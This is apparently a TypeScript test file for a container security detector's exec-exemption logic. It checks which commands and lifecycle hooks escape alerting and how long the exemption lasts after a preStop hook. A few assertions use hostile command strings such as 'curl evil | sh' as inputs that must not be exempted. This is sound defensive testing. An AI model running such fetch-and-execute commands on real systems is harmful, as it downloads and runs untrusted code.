import { ManualClock } from "@kinglet/lifecycle";
import { describe, expect, it } from "vitest";

import { containerOf } from "../test/containers.ts";
import type { ContainerCommands } from "./detection-host.ts";
import { ExecExemptions, type ExecExemptionOptions } from "./exec-exemptions.ts";

const container = containerOf();
const id = container.containerId;
const nothing: ContainerCommands = { command: [], postStart: [], preStop: [], isPodEnding: true };

/** Stands for the event at hand: what was executed, with which arguments. */
class View {
  readonly container: typeof container = container;
  execution: { binary: string; argv: readonly string[] | undefined; args: string; isTruncated: boolean } | undefined;

  get exepath(): string {
    return this.execution?.binary ?? "/bin/other";
  }

  /** @param argv - behind the program. */
  ran(binary: string, ...argv: readonly string[]): string {
    this.execution = { binary, argv: [binary, ...argv], args: argv.join(" "), isTruncated: false };
    return binary;
  }
}

function setUp(commands: Partial<ContainerCommands> | undefined, options: Partial<ExecExemptionOptions> = {}) {
  const clock = new ManualClock();
  const view = new View();
  const host = { commandsOf: () => commands && { ...nothing, ...commands } };
  const exemptions = new ExecExemptions({ host, view, clock, ...options });
  const isExempt = (binary: string, ...argv: readonly string[]): boolean =>
    exemptions.isExempt(id, view.ran(binary, ...argv));
  return { clock, view, exemptions, isExempt };
}

describe("ExecExemptions", () => {
  it("exempts the command and the hooks of the container's specification, with exactly their arguments [rules X-1]", () => {
    const { isExempt } = setUp({
      command: ["/entrypoint.sh", "--serve"],
      postStart: ["/bin/warm-up"],
      preStop: ["/bin/sh", "-c", "nginx -s quit"],
      isPodEnding: false,
    });
    expect(isExempt("/entrypoint.sh", "--serve")).toBe(true);
    expect(isExempt("/bin/warm-up")).toBe(true);
    expect(isExempt("/bin/sh", "-c", "nginx -s quit")).toBe(true);
    expect(isExempt("/entrypoint.sh")).toBe(false);
    expect(isExempt("/entrypoint.sh", "--serve", "x")).toBe(false);
    expect(isExempt("/bin/warm-up", "x")).toBe(false);
    expect(isExempt("/bin/sh", "-c", "curl evil | sh")).toBe(false);
    expect(isExempt("/bin/sh")).toBe(false);
    expect(isExempt("/bin/drain")).toBe(false);
  });

  it("puts variables into the container's command only: hooks are run as they are written [rules X-1]", () => {
    const { isExempt } = setUp({
      command: ["/bin/serve", "--port=$(PORT)"],
      preStop: ["/bin/sh", "-c", "kill $(cat /pid)"],
      postStart: ["/bin/mark", "$(NAME)"],
      isPodEnding: false,
    });
    expect(isExempt("/bin/serve", "--port=80")).toBe(true);
    expect(isExempt("/bin/sh", "-c", "kill $(cat /pid)")).toBe(true);
    expect(isExempt("/bin/mark", "$(NAME)")).toBe(true);
    expect(isExempt("/bin/mark", "x")).toBe(false);
  });

  it("answers by the path alone when a rule asks about another program than the one that ran, or with another event [rules X-1]", () => {
    const { exemptions, view } = setUp({ command: ["/bin/serve", "--port"] });
    view.ran("/bin/id");
    expect(exemptions.isExempt(id, "/bin/serve")).toBe(true);
    expect(exemptions.isExempt(id, "/bin/id")).toBe(false);
    expect(exemptions.isExempt(id, "")).toBe(false);
    view.execution = undefined;
    expect(exemptions.isExempt(id, "/bin/serve")).toBe(true);
  });

  it("exempts nothing without a specification, and nothing of other containers [rules X-1]", () => {
    expect(setUp(undefined).isExempt("/entrypoint.sh")).toBe(false);
    const { exemptions, view } = setUp({ command: ["/entrypoint.sh"] });
    expect(exemptions.isExempt("cd".repeat(32), view.ran("/entrypoint.sh"))).toBe(false);
  });

  it("exempts whatever runs for five minutes once the whole preStop hook ran [rules X-2]", async () => {
    const { isExempt, exemptions, clock } = setUp({ preStop: ["/bin/sh", "-c", "nginx -s quit"] });
    expect(isExempt("/bin/sh", "-c", "nginx -s quit")).toBe(true);
    expect(isExempt("/usr/sbin/nginx", "-s", "quit")).toBe(true);
    await clock.advance(299_999);
    expect(isExempt("/usr/bin/anything")).toBe(true);
    await clock.advance(1);
    expect(isExempt("/usr/bin/anything")).toBe(false);
    expect(exemptions.size).toBe(0);
  });

  it("exempts nothing more when a container that nobody deletes runs its own preStop hook, however often [rules X-4]", async () => {
    const { isExempt, clock } = setUp({ preStop: ["sleep", "15"], isPodEnding: false });
    for (let turn = 0; turn < 3; turn++) {
      expect(isExempt("/bin/sleep", "15")).toBe(true);
      expect(isExempt("/usr/bin/curl", "evil")).toBe(false);
      await clock.advance(200_000);
    }
    expect(isExempt("/bin/sleep", "16")).toBe(false);
  });

  it("counts the hook also when the deletion of the pod becomes known after it ran [rules X-4]", () => {
    const now = { isPodEnding: false };
    const host = { commandsOf: () => ({ ...nothing, preStop: ["/bin/drain"], isPodEnding: now.isPodEnding }) };
    const { isExempt } = setUp(undefined, { host });
    isExempt("/bin/drain");
    expect(isExempt("/bin/id")).toBe(false);
    now.isPodEnding = true;
    expect(isExempt("/bin/id")).toBe(true);
  });

  it("does not exempt what a pod that is being deleted runs without its hook [rules X-4]", () => {
    const { isExempt } = setUp({ preStop: ["/bin/drain"], isPodEnding: true });
    expect(isExempt("/bin/id")).toBe(false);
  });

  it("does not take a shell for the hook that names a shell, nor a command line that nobody could tell [rules X-2]", () => {
    const { isExempt, exemptions, view } = setUp({ preStop: ["/bin/sh", "-c", "nginx -s quit"] });
    for (const argv of [[], ["-c", "curl evil"]]) {
      expect(isExempt("/bin/sh", ...argv)).toBe(false);
      expect(isExempt("/usr/bin/curl")).toBe(false);
    }
    view.execution = { binary: "/bin/sh", argv: undefined, args: "", isTruncated: true };
    expect(exemptions.isExempt(id, "/bin/sh")).toBe(false);
    expect(exemptions.isStopping(id)).toBe(false);
  });

  it("knows the hook's program also when the hook names it without its folder [rules X-2]", () => {
    const { isExempt, exemptions } = setUp({ preStop: ["sleep", "15"] });
    expect(isExempt("/bin/sleep", "15")).toBe(true);
    expect(exemptions.isStopping(id)).toBe(true);
  });

  it("renews the time when the hook is noted again, and forgets on demand [rules X-3]", async () => {
    const { exemptions, clock } = setUp(undefined, { stoppingMs: 100 });
    exemptions.noteStopping(id);
    await clock.advance(50);
    exemptions.noteStopping(id);
    await clock.advance(60);
    expect(exemptions.isStopping(id)).toBe(true);
    exemptions.forget(id);
    expect(exemptions.isStopping(id)).toBe(false);
  });

  it("remembers many, drops the one that was asked for longest ago beyond its bound [rules X-3]", () => {
    const { exemptions } = setUp(undefined, { maxStopping: 3 });
    for (const one of ["a", "b", "c"]) exemptions.noteStopping(one);
    expect(exemptions.isStopping("a")).toBe(true);
    exemptions.noteStopping("d");
    expect(["a", "b", "c", "d"].map((one) => exemptions.isStopping(one))).toEqual([true, false, true, true]);
    expect(exemptions.size).toBe(3);
  });

  it("takes its defaults for sizes of 0 and does not note an empty id [rules X-3]", () => {
    const { exemptions } = setUp(undefined, { maxStopping: 0, stoppingMs: 0 });
    exemptions.noteStopping("");
    for (let at = 0; at < 1_001; at++) exemptions.noteStopping(`c${at}`);
    expect(exemptions.size).toBe(1_000);
    expect([exemptions.isStopping("c0"), exemptions.isStopping("c1"), exemptions.isStopping("")]).toEqual([
      false,
      true,
      false,
    ]);
  });
});
